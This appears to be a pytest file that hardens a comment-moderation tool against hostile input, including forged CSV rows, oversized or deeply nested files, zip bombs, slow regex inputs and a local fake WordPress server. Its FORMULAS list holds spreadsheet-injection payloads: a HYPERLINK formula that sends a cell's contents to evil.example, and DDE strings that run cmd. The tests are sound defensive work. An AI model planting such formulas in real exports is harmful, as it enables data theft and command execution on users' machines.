"""Issue #18, hostile input round two: every attack that got through is a test here.

Outputs that cannot be forged (CSV rows, spreadsheet formulas, HTML), runs that one record cannot
kill, memory that stays bounded, linear-time patterns, and the smaller bugs. Network tests use
real HTTP servers on 127.0.0.1; the WordPress reply test against a real WordPress is in
``tests/wordpress/test_wordpress_hostile.py``.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import functools
import hashlib
import io
import json
import shutil
import threading
import time
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from commentcare import (
    AdapterError,
    Comment,
    CommentCareError,
    InputError,
    ModelError,
    Moderator,
    UntrustedModelError,
)
from commentcare.adapters.medium import MAX_RATIO, write_worksheet
from commentcare.adapters.wordpress import WordPressSite
from commentcare.cli import main
from commentcare.io import FORMULA_LEADS, csv_line, iter_records, read_comments, safe_cell
from commentcare.model import shipped_model_path

FORGED = "Buy pills\rFORGED-ID,spam,1.0"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _jsonl(path: Path, rows: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


def _run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    code = main(argv)
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return code, out, err


def _spreadsheet_safe(cell: str) -> bool:
    """What a spreadsheet runs as a formula: a cell led by = + - @ (or a tab or CR before one)."""
    if not cell or cell[0] not in FORMULA_LEADS:
        return True
    try:
        float(cell)
    except ValueError:
        return False
    return True


# -- forged rows and formulas -------------------------------------------------------------------


@pytest.mark.parametrize("terminator", ["\n", "\r\n", "\r"])
def test_csv_line_quotes_under_any_terminator(terminator: str) -> None:
    values = [FORGED, "a\nb", 'say "hi"', "x,y", "plain", None, 0.5, True]
    line = csv_line(values, lineterminator=terminator)
    rows = list(csv.reader(io.StringIO(line, newline="")))
    assert len(rows) == 1
    assert rows[0] == [safe_cell(v) for v in values]


@given(st.lists(st.text(), min_size=1, max_size=6))
@settings(max_examples=300, deadline=None)
def test_csv_line_always_reads_back_as_one_record(values: list[str]) -> None:
    values = [v.replace("\x00", "") for v in values]  # the csv module refuses NUL on reading
    for terminator in ("\n", "\r\n"):
        rows = list(csv.reader(io.StringIO(csv_line(values, lineterminator=terminator), newline="")))
        assert rows == [[safe_cell(v) for v in values]]
        assert all(_spreadsheet_safe(cell) for cell in rows[0])


def test_forged_rows_and_formulas_read_back_clean(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    texts = [FORGED, *FORMULAS, "-1", "A normal comment, thanks!"]
    src = _jsonl(
        tmp_path / "in.jsonl", [{"id": f"c{i}", "text": t, "author": t} for i, t in enumerate(texts)]
    )
    out = tmp_path / "out.csv"
    code, _, err = _run(["classify", str(src), "-o", str(out), "--replies"], capsys)
    assert code == 0
    assert f"wrote {out}" in err
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["id"] for r in rows] == [f"c{i}" for i in range(len(texts))]  # no forged row
    for row, text in zip(rows, texts):
        assert row["text"].removeprefix("'") == text
        assert row["author"].removeprefix("'") == text
        assert all(_spreadsheet_safe(cell) for cell in row.values()), row
    assert rows[-2]["text"] == "-1"  # a plain number is left alone


def test_the_worksheet_reads_back_clean(tmp_path: Path) -> None:
    m = Moderator()
    reviews = list(
        m.review_many([Comment(text=t, id=f"r{i}", author=t) for i, t in enumerate([FORGED, *FORMULAS])])
    )
    write_worksheet(reviews, tmp_path / "w.csv", tmp_path / "w.html")
    with open(tmp_path / "w.csv", newline="", encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    assert sorted(r["id"] for r in rows) == sorted(f"r{i}" for i in range(len(FORMULAS) + 1))
    assert all(_spreadsheet_safe(cell) for row in rows for cell in row.values())
    page = (tmp_path / "w.html").read_text(encoding="utf-8")
    assert "<img" not in page and '=HYPERLINK("http' not in page


# -- run-killers: each ends with exit 0 and an error record -------------------------------------

# Declared multi-byte encodings are read (decoded to UTF-8 before expat, which cannot read them);
# a byte sequence that is not valid Shift_JIS further on is the record that is reported.
BAD_SJIS = "\x81\x20"  # a lead byte followed by a space: not Shift_JIS
WXR_SJIS = """<?xml version="1.0" encoding="shift_jis"?>
<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel><item><title>T</title>
<wp:comment><wp:comment_id>1</wp:comment_id><wp:comment_content>ありがとう、とても役に立ちました</wp:comment_content></wp:comment>
<wp:comment><wp:comment_id>2</wp:comment_id><wp:comment_content>BAD</wp:comment_content></wp:comment>
</item></channel></rss>
"""
DISQUS_SJIS = """<?xml version="1.0" encoding="shift_jis"?>
<disqus xmlns:dsq="http://disqus.com/disqus-internals"><post dsq:id="1"><message>ありがとう</message></post>
<post dsq:id="2"><message>BAD</message></post></disqus>
"""


def _sjis(text: str) -> bytes:
    head, tail = text.split("BAD")
    return head.encode("shift_jis") + BAD_SJIS.encode("latin-1") + tail.encode("shift_jis")


def _killers(tmp: Path) -> dict[str, tuple[Path, int]]:
    """Each hostile file, with how many good comments sit beside the bad record."""
    good = {"id": "ok", "text": "Thanks, this helped a lot."}
    deep = '{"id": "deep", "text": "x", "meta": ' + "[" * 1000 + "]" * 1000 + "}"
    (tmp / "deep.jsonl").write_text(json.dumps(good) + "\n" + deep + "\n", encoding="utf-8")
    huge = _jsonl(tmp / "huge.jsonl", [good, {"id": "huge", "text": "hello", "created_at": 1e300}])
    (tmp / "surrogate.jsonl").write_text(
        json.dumps(good) + '\n{"id": "s", "text": "bad \\ud800 text"}\n', encoding="utf-8"
    )
    (tmp / "sjis.xml").write_bytes(_sjis(WXR_SJIS))
    (tmp / "sjis-disqus.xml").write_bytes(_sjis(DISQUS_SJIS))
    return {
        "json nested 1,000 deep": (tmp / "deep.jsonl", 1),
        "created_at 1e300": (huge, 1),
        "lone surrogate": (tmp / "surrogate.jsonl", 1),
        "WXR declaring shift_jis": (tmp / "sjis.xml", 1),
        "Disqus declaring shift_jis": (tmp / "sjis-disqus.xml", 1),
    }


@pytest.mark.parametrize(
    "case",
    [
        "json nested 1,000 deep",
        "created_at 1e300",
        "lone surrogate",
        "WXR declaring shift_jis",
        "Disqus declaring shift_jis",
    ],
)
def test_run_killers_become_error_records(
    case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path, good = _killers(tmp_path)[case]
    out, errors = tmp_path / "out.csv", tmp_path / "errors.jsonl"
    code, _, err = _run(["classify", str(path), "-o", str(out), "--errors", str(errors)], capsys)
    assert code == 0, err
    records = [json.loads(line) for line in errors.read_text(encoding="utf-8").splitlines()]
    assert len(records) == 1
    assert records[0]["source"] == str(path) and records[0]["record"] is not None and records[0]["error"]
    with open(out, newline="", encoding="utf-8") as fh:
        assert len(list(csv.DictReader(fh))) == good
    assert "1 errors" in err


def test_a_lone_surrogate_never_reaches_a_writer(tmp_path: Path) -> None:
    src = tmp_path / "s.jsonl"
    src.write_text('{"text": "fine", "author": "\\udbff"}\n{"text": "ok", "extra": ["\\ud800"]}\n', "utf-8")
    recs = list(iter_records(src))
    assert all(isinstance(r, InputError) and "surrogate" in r.reason for r in recs)


# -- the property test over every reader and writer ---------------------------------------------

HOSTILE_TEXT = st.one_of(
    st.text(max_size=40),
    st.sampled_from(["\ud800", "a\x00b", "\r", "=1+1", "[url]" * 50, "é" * 3, "\u202e", "1e300"]),
    st.builds(lambda n: "x" * n, st.integers(0, 200_000)),
)
HOSTILE_VALUE = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.floats(allow_nan=True),
        st.sampled_from([1e300, -1e308, 10**400, 2**63]),
        HOSTILE_TEXT,
    ),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=5), inner, max_size=3)
    ),
    max_leaves=8,
)
RECORD = st.fixed_dictionaries(
    {"text": HOSTILE_TEXT},
    optional={
        "id": HOSTILE_VALUE,
        "author": HOSTILE_VALUE,
        "created_at": HOSTILE_VALUE,
        "extra": HOSTILE_VALUE,
    },
)


def _deep(n: int) -> str:
    return '{"text": "deep", "x": ' + "[" * n + "]" * n + "}"


def _xml_text(value: object) -> str:
    return str(value).replace("&", "&amp;").replace("<", "&lt;")


def _as_formats(records: list[dict[str, Any]], encoding: str, deep: int) -> dict[str, tuple[bytes, int]]:
    """The same records as every format, with the number of records each file holds."""
    lines = [json.dumps(r, ensure_ascii=True, default=str) for r in records] + [_deep(deep)]
    jsonl = ("\n".join(lines) + "\n").encode()
    array = ("[" + ",".join(lines) + "]").encode()
    buf = io.StringIO()
    buf.write(csv_line(["id", "text", "author", "created_at"]))
    for r in records:
        buf.write(csv_line([r.get("id"), r["text"], r.get("author"), r.get("created_at")]))
    csv_bytes = buf.getvalue().encode("utf-8", "surrogatepass")
    comments = "".join(
        f"<wp:comment><wp:comment_id>{i}</wp:comment_id><wp:comment_author>{_xml_text(r.get('author'))}"
        f"</wp:comment_author><wp:comment_date_gmt>{_xml_text(r.get('created_at'))}</wp:comment_date_gmt>"
        f"<wp:comment_content>{_xml_text(r['text'])}</wp:comment_content></wp:comment>"
        for i, r in enumerate(records)
    )
    wxr = (
        f'<?xml version="1.0" encoding="{encoding}"?><rss xmlns:wp="http://wordpress.org/export/1.2/">'
        f"<channel><item><title>T</title>{comments}</item></channel></rss>"
    ).encode("utf-8", "surrogatepass")
    posts = "".join(
        f'<post dsq:id="{i}"><message>{_xml_text(r["text"])}</message><createdAt>{_xml_text(r.get("created_at"))}'
        f"</createdAt><author><name>{_xml_text(r.get('author'))}</name></author></post>"
        for i, r in enumerate(records)
    )
    disqus = (
        f'<?xml version="1.0" encoding="{encoding}"?><disqus xmlns:dsq="http://disqus.com/disqus-internals">'
        f"{posts}</disqus>"
    ).encode("utf-8", "surrogatepass")
    items = "".join(
        f"<item><title>t</title><description>{_xml_text(r['text'])}</description></item>" for r in records
    )
    rss = f'<?xml version="1.0" encoding="{encoding}"?><rss><channel>{items}</channel></rss>'.encode(
        "utf-8", "surrogatepass"
    )
    n = len(records)
    return {
        "jsonl": (jsonl, n + 1),
        "json-array": (array, n + 1),
        "csv": (csv_bytes, n),
        "wxr": (wxr, n),
        "disqus": (disqus, n),
        "rss": (rss, n),
    }


@functools.cache
def _classification() -> Any:
    return Moderator().classify("Great post")


FORMAT_OF = {
    "jsonl": "jsonl",
    "json-array": "jsonl",
    "csv": "csv",
    "wxr": "wxr",
    "disqus": "disqus",
    "rss": "rss",
}


@given(
    records=st.lists(RECORD, min_size=1, max_size=5),
    encoding=st.sampled_from(["UTF-8", "shift_jis", "euc-jp", "big5", "UTF-16", "latin-1", "x-unknown"]),
    deep=st.sampled_from([3, 1000, 100_000]),
)
@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)
def test_every_reader_and_writer_classifies_or_reports(
    records: list[dict[str, Any]], encoding: str, deep: int, tmp_path_factory: pytest.TempPathFactory
) -> None:
    tmp = tmp_path_factory.mktemp("hostile")
    for name, (data, count) in _as_formats(records, encoding, deep).items():
        path = tmp / f"in.{name}"
        path.write_bytes(data)
        try:
            recs = list(iter_records(path, FORMAT_OF[name]))
        except CommentCareError:
            continue
        comments = [r for r in recs if isinstance(r, Comment)]
        errors = [r for r in recs if isinstance(r, InputError)]
        assert len(comments) + len(errors) == len(recs)
        assert all(e.source == str(path) for e in errors)
        if name in ("jsonl", "csv"):  # line formats: every record is a comment or an error
            assert len(comments) + len(errors) >= count - (1 if name == "csv" else 0)
        elif not errors:
            assert len(comments) == count
        # every writer takes every comment a reader let through
        for fmt in ("csv", "jsonl"):
            from commentcare.io._writers import RowWriter, result_row

            sink = io.BytesIO()
            writer = RowWriter(sink, fmt)
            cls = _classification()
            for c in comments:
                writer.write(result_row(c, cls))
            writer.flush()
            if fmt == "csv" and comments:
                text = sink.getvalue().decode("utf-8", "surrogateescape")
                limit = csv.field_size_limit(1 << 30)  # giant fields are part of the attack
                try:
                    assert len(list(csv.reader(io.StringIO(text, newline="")))) == len(comments) + 1
                finally:
                    csv.field_size_limit(limit)


@given(records=st.lists(RECORD, min_size=1, max_size=4))
@settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)
def test_classify_file_accounts_for_every_record(
    records: list[dict[str, Any]], tmp_path_factory: pytest.TempPathFactory
) -> None:
    from commentcare.io._batch import classify_file

    tmp = tmp_path_factory.mktemp("run")
    src = tmp / "in.jsonl"
    src.write_bytes(_as_formats(records, "UTF-8", 1000)["jsonl"][0])
    summary = classify_file(src, tmp / "out.csv", errors=tmp / "err.jsonl", replies=True)
    assert summary.total == len(records) + 1 == summary.classified + summary.errors
    limit = csv.field_size_limit(1 << 30)  # giant fields are part of the attack; put the limit back after
    try:
        with open(tmp / "out.csv", newline="", encoding="utf-8", errors="surrogateescape") as fh:
            assert len(list(csv.DictReader(fh))) == summary.classified
    finally:
        csv.field_size_limit(limit)
    assert len((tmp / "err.jsonl").read_text(encoding="utf-8").splitlines()) == summary.errors


# -- silent loss -------------------------------------------------------------------------------------


def test_an_unclosed_quote_is_reported_where_it_opened(tmp_path: Path) -> None:
    src = tmp_path / "q.csv"
    src.write_text('id,text\n1,first\n2,"never closed\n3,third\n4,fourth\n', encoding="utf-8")
    recs = list(iter_records(src))
    errors = [r for r in recs if isinstance(r, InputError)]
    assert len(errors) == 1 and errors[0].record == 3 and "line 3 never closes" in errors[0].reason
    assert [r.id for r in recs if isinstance(r, Comment)] == ["1", "3", "4"]


def _interrupted_run(tmp: Path, src: Path, **options: Any) -> Path:
    from commentcare.io import _batch

    out = tmp / "out.csv"

    def stop(_: int) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        _batch.classify_file(src, out, errors=tmp / "e.jsonl", on_progress=stop, **options)
    assert Path(str(out) + ".state.json").exists()
    return out


def test_resume_refuses_another_input_or_other_options(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [{"id": str(i), "text": f"comment number {i}"} for i in range(1500)]
    first, second = _jsonl(tmp_path / "a.jsonl", rows), _jsonl(tmp_path / "b.jsonl", rows[::-1])
    out = _interrupted_run(tmp_path, first)
    code, _, err = _run(
        ["classify", str(second), "-o", str(out), "--errors", str(tmp_path / "e.jsonl"), "--resume"], capsys
    )
    assert code == 2 and "cannot resume" in err
    code, _, err = _run(
        [
            "classify",
            str(first),
            "-o",
            str(out),
            "--errors",
            str(tmp_path / "e.jsonl"),
            "--resume",
            "--replies",
        ],
        capsys,
    )
    assert code == 2 and "cannot resume" in err
    code, _, err = _run(
        ["classify", str(first), "-o", str(out), "--errors", str(tmp_path / "e.jsonl"), "--resume"], capsys
    )
    assert code == 0, err
    with open(out, newline="", encoding="utf-8") as fh:
        assert [r["id"] for r in csv.DictReader(fh)] == [str(i) for i in range(1500)]


# -- memory ----------------------------------------------------------------------------------------


def _wrapper_wxr(elements: int) -> bytes:
    bulk = b"<j>x</j>" * elements
    return (
        b'<?xml version="1.0"?><rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><wrapper>'
        + bulk
        + b"</wrapper><item><title>T</title><wp:comment><wp:comment_id>1</wp:comment_id>"
        b"<wp:comment_content>Hi<w>" + bulk + b"</w></wp:comment_content></wp:comment></item></channel></rss>"
    )


def _wrapper_disqus(elements: int) -> bytes:
    bulk = b"<j>x</j>" * elements
    return (
        b'<?xml version="1.0"?><disqus xmlns:dsq="http://disqus.com/disqus-internals"><wrapper>'
        + bulk
        + b'</wrapper><post dsq:id="1"><message>Hi</message><author><x>'
        + bulk
        + b"</x></author></post></disqus>"
    )


@pytest.mark.parametrize(("fmt", "make"), [("wxr", _wrapper_wxr), ("disqus", _wrapper_disqus)])
def test_xml_readers_release_every_element(fmt: str, make: Callable[[int], bytes]) -> None:
    # 0.8 MB of tiny elements, twice: the code before #18 kept them (9.1 MiB for WXR, 7.9 for
    # Disqus, traced); released, the peak is under 1 MiB.
    data = make(100_000)
    tracemalloc.start()
    try:
        recs = list(iter_records(io.BytesIO(data), fmt))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [type(r) for r in recs] == [Comment]
    assert peak < 3 * 2**20, f"peak {peak / 2**20:.1f} MiB"


def test_xml_nested_without_end_is_refused() -> None:
    data = b'<?xml version="1.0"?><rss><channel>' + b"<a>" * 100_000
    recs = list(iter_records(io.BytesIO(data), "wxr"))
    assert len(recs) == 1 and isinstance(recs[0], InputError) and "nested more than" in recs[0].reason


def test_a_medium_zip_bomb_is_refused_by_its_ratio(tmp_path: Path) -> None:
    archive = tmp_path / "bomb.zip"
    member = (
        b"<article class='h-entry'><div class='e-content'><p>" + b"a" * (3 * 2**20) + b"</p></div></article>"
    )
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        for i in range(8):
            zf.writestr(f"posts/2024-01-01_bomb-{i:012x}.html", member)
    recs = list(iter_records(archive, "medium-archive"))
    assert len(recs) == 8 and all(
        isinstance(r, InputError) and f"limit {MAX_RATIO}" in r.reason for r in recs
    )


# -- WordPress answers: size, pages, nesting, plain HTTP ------------------------------------------


class _Answers:
    def __init__(self) -> None:
        self.body: Callable[[dict[str, str]], tuple[bytes, dict[str, str]]] = lambda q: (b"[]", {})
        self.requests = 0


@pytest.fixture
def answers() -> Iterator[tuple[_Answers, str]]:
    state = _Answers()

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:
            pass

        def do_GET(self) -> None:
            from urllib.parse import parse_qs, urlsplit

            state.requests += 1
            query = {k: v[-1] for k, v in parse_qs(urlsplit(self.path).query).items()}
            body, headers = state.body(query)
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            for k, v in headers.items():
                self.send_header(k, v)
            self.end_headers()
            with contextlib.suppress(OSError):
                self.wfile.write(body)
            self.close_connection = True

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield state, f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def test_a_huge_answer_is_refused(answers: tuple[_Answers, str]) -> None:
    state, url = answers
    state.body = lambda q: (b"[" + b'{"id": 1},' * 400_000 + b'{"id": 2}]', {})
    with (
        WordPressSite(url, "u", "p", retries=0, max_body_bytes=1_000_000) as site,
        pytest.raises(AdapterError, match="more than 1000000 bytes"),
    ):
        site.list_comments()


def test_endless_pages_stop_at_the_cap(answers: tuple[_Answers, str]) -> None:
    state, url = answers
    item = {"id": 1, "post": 0, "content": {"raw": "hi"}, "status": "hold"}
    state.body = lambda q: (json.dumps([item]).encode(), {"X-WP-TotalPages": "1000000"})
    with (
        WordPressSite(url, "u", "p", retries=0, max_pages=20) as site,
        pytest.raises(AdapterError, match="more than 20 pages"),
    ):
        site.list_comments()
    assert state.requests == 20


def test_an_answer_nested_100000_deep(
    answers: tuple[_Answers, str], capsys: pytest.CaptureFixture[str]
) -> None:
    state, url = answers
    state.body = lambda q: (b"[" * 100_000 + b"]" * 100_000, {})
    with (
        WordPressSite(url, "u", "p", retries=0) as site,
        pytest.raises(AdapterError, match="nested too deeply"),
    ):
        site.list_comments()
    env = {"COMMENTCARE_WP_URL": url, "COMMENTCARE_WP_USER": "u", "COMMENTCARE_WP_APP_PASSWORD": "p"}
    from commentcare.cli_wordpress import moderate, register

    parser = argparse.ArgumentParser()
    register(parser.add_subparsers(dest="command"))
    args = parser.parse_args(["wordpress", "moderate"])
    out, err = io.StringIO(), io.StringIO()
    assert moderate(args, stdout=out, stderr=err, environ=env, site_options={"retries": 0}) == 1
    assert "nested too deeply" in err.getvalue() and "Traceback" not in err.getvalue()


def test_plain_http_credentials_are_refused_unless_allowed(caplog: pytest.LogCaptureFixture) -> None:
    with pytest.raises(InputError, match="plain HTTP"):
        WordPressSite("http://blog.example", "u", "p")
    with caplog.at_level("WARNING"):
        WordPressSite("http://blog.example", "u", "p", allow_http=True).close()
        WordPressSite("http://127.0.0.1:8080", "u", "p").close()
    assert caplog.text.count("unencrypted") == 2
    WordPressSite("https://blog.example", "u", "p").close()


# -- slow patterns -----------------------------------------------------------------------------------

WORST = {
    "[url]": "[url]",
    "[url=": "[url=",
    "[URL]a": "[URL]a",
    "<a ": "<a ",
    "x dot ": "x dot ",
    "a-": "a-",
    "h t t p ": "h t t p ",
    "&#1": "&#1",
    "www.": "www.",
}


@pytest.mark.parametrize("unit", list(WORST.values()), ids=list(WORST))
def test_worst_inputs_take_linear_time(unit: str) -> None:
    m = Moderator()
    m.review("warm up")
    text = (unit * 100_000)[:200_000]
    start = time.perf_counter()
    m.classify(text)
    m.review(text)
    elapsed = time.perf_counter() - start
    assert elapsed < 2.0, f"{elapsed:.2f} s for 200 KB of {unit!r} (was 3-5 s per 100 KB for BBCode)"


@given(st.text(alphabet="[]/=urlURLx ", max_size=60))
@settings(max_examples=2000, deadline=None)
def test_bbcode_links_are_the_patterns_matches(text: str) -> None:
    from commentcare.model._text import _BBCODE_URL, bbcode_links

    assert bbcode_links(text) == [
        (m.start(), m.end(), m.group(1), m.group(2)) for m in _BBCODE_URL.finditer(text)
    ]


@given(st.text(alphabet="<>a b&;#1pr/", max_size=40))
@settings(max_examples=2000, deadline=None)
def test_has_markup_is_the_patterns_answer(text: str) -> None:
    from commentcare.model._text import _MARKUP, has_markup

    assert has_markup(text) == (_MARKUP.search(text) is not None)


# -- pinned model loading ------------------------------------------------------------------------


def test_a_model_pinned_by_its_sha256(tmp_path: Path) -> None:
    shipped = shipped_model_path()
    folder = tmp_path / "model"
    folder.mkdir()
    base = shipped if shipped.is_dir() else shipped.parent
    for f in base.glob("model.*"):
        shutil.copy(f, folder / f.name)
    digest = hashlib.sha256((folder / "model.joblib").read_bytes()).hexdigest()
    assert Moderator(folder, sha256=digest.upper()).classify("Great post").label.value == "praise"
    with pytest.raises(UntrustedModelError, match="not the pinned"):
        Moderator(folder, sha256="0" * 64).classify("x")
    with pytest.raises(UntrustedModelError):
        Moderator(folder).classify("x")
    with pytest.raises(ModelError, match="64 hexadecimal"):
        Moderator(folder, sha256="abc").classify("x")


# -- the smaller bugs ----------------------------------------------------------------------------


def test_review_none_is_a_type_error() -> None:
    m = Moderator()
    with pytest.raises(TypeError):
        m.classify(None)  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        m.review(None)  # type: ignore[arg-type]


def test_a_json_array_file(tmp_path: Path) -> None:
    src = tmp_path / "comments.json"
    src.write_text(
        json.dumps([{"id": "a", "text": "Love it"}, {"text": "Broken again"}, 7]), encoding="utf-8"
    )
    recs = list(iter_records(src))
    assert [(r.id, r.text) for r in recs if isinstance(r, Comment)] == [
        ("a", "Love it"),
        ("2", "Broken again"),
    ]
    assert [r.record for r in recs if isinstance(r, InputError)] == ["item 3"]
    assert len(list(read_comments(src, on_error=lambda e: None))) == 2


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["-o", "{tmp}/missing/out.csv"], "does not exist"),
        (["-o", "{tmp}/out.xlsx"], "cannot write .xlsx"),
        (["-o", "{tmp}/out.csv", "--report", "{tmp}/missing/r.html"], "does not exist"),
        (["-o", "{tmp}/out.csv", "--errors", "{tmp}/missing/e.jsonl"], "does not exist"),
        (["-o", "{tmp}"], "Is a directory"),
    ],
)
def test_bad_output_paths_are_one_line(
    argv: list[str], message: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = _jsonl(tmp_path / "in.jsonl", [{"text": "Nice"}])
    code, _, err = _run(["classify", str(src), *(a.format(tmp=tmp_path) for a in argv)], capsys)
    assert code == 2 and message in err and len(err.strip().splitlines()) == 1, err


@pytest.mark.parametrize("content", ["", "id,text\n", "\n\n"])
def test_empty_and_header_only_inputs(
    content: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = tmp_path / "in.csv"
    src.write_text(content, encoding="utf-8")
    code, _, err = _run(["classify", str(src), "-o", str(tmp_path / "out.csv")], capsys)
    assert code == 2 and "no comments in" in err and "()" not in err


def test_a_missing_input_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = _run(["classify", str(tmp_path / "nope.csv"), "-o", str(tmp_path / "o.csv")], capsys)
    assert code == 2 and "nope.csv" in err and len(err.strip().splitlines()) == 1


@pytest.mark.parametrize("encoding", ["shift_jis", "euc-jp", "big5", "gbk", "euc-kr", "cp1252"])
def test_declared_encodings_are_read(encoding: str) -> None:
    text = {"big5": "謝謝", "gbk": "谢谢", "euc-kr": "감사합니다", "cp1252": "Merci, très utile"}.get(
        encoding, "ありがとう"
    )
    wxr = (
        WXR_SJIS.replace("shift_jis", encoding).split("<wp:comment><wp:comment_id>2")[0]
        + "</item></channel></rss>"
    )
    wxr = wxr.replace("ありがとう、とても役に立ちました", text)
    (rec,) = list(iter_records(io.BytesIO(wxr.encode(encoding)), "wxr"))
    assert isinstance(rec, Comment) and rec.text == text


def test_lone_surrogates_from_a_site_are_replaced(answers: tuple[_Answers, str]) -> None:
    state, url = answers
    item = '{"id": 5, "post": 0, "author_name": "Ann\\ud800", "content": {"raw": "Thanks \\udfff!"}, "status": "hold"}'
    state.body = lambda q: (f"[{item}]".encode(), {"X-WP-TotalPages": "1"})
    with WordPressSite(url, "u", "p", retries=0) as site:
        (comment,) = site.list_comments()
    assert comment.text.startswith("Thanks \ufffd") and comment.text.endswith("!")
    assert comment.author is not None and "\ufffd" in comment.author
    Moderator().review(comment)  # reviewable: no encoding error


def test_a_quote_never_closed_costs_linear_time() -> None:
    rows = b"".join(b"%d,plain text without quotes\n" % i for i in range(50_000))

    def timed(data: bytes) -> tuple[list[Any], float]:
        start = time.perf_counter()
        recs = list(iter_records(io.BytesIO(data), "csv"))
        return recs, time.perf_counter() - start

    _, normal = timed(b"id,text\n" + rows)
    recs, broken = timed(b'id,text\n0,"opened and never closed\n' + rows)
    assert isinstance(recs[0], InputError) and recs[0].record == 2
    assert len(recs) == 50_001 and all(isinstance(r, Comment) for r in recs[1:])
    assert broken < 3 * normal + 1, f"{broken:.1f} s against {normal:.1f} s for the same rows well quoted"
